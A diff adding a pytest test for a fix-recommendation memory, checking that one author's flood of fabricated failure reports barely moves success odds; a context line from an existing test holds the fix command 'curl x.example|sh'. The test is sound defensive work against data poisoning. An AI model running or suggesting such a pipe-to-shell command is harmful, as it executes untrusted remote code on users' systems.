@@ -365,6 +365,18 @@ def test_one_source_does_not_turn_what_works_for_others(memory: Memory) -> None:
     assert [each.fix_commands for each in best][-1] == ("curl x.example|sh",)
 
 
+def test_one_source_with_a_fixer_of_its_own_moves_the_odds_a_little(memory: Memory) -> None:
+    for author in ("ann", "bob", "cem"):
+        for _ in range(6):
+            memory.record_fix(ISSUE, True, True, "", ["restart model"], author=author)
+    assert memory.odds(ISSUE).p_success > 0.9
+    for number in range(60):
+        fixer = f"made up {number % 3}"
+        memory.record_fix(ISSUE, True, False, "", ["x"], fixer_type=fixer, author="mallory")
+    assert memory.odds(ISSUE).p_success > 0.6
+    assert memory.odds(issue_type="TIMEOUT").p_success > 0.6
+
+
 def test_what_somebody_vouches_for_is_the_first_strategy(memory: Memory) -> None:
     for number in range(4):
         kept = memory.record_fix(ISSUE, True, number > 0, "", ["restart model"], author="bob")
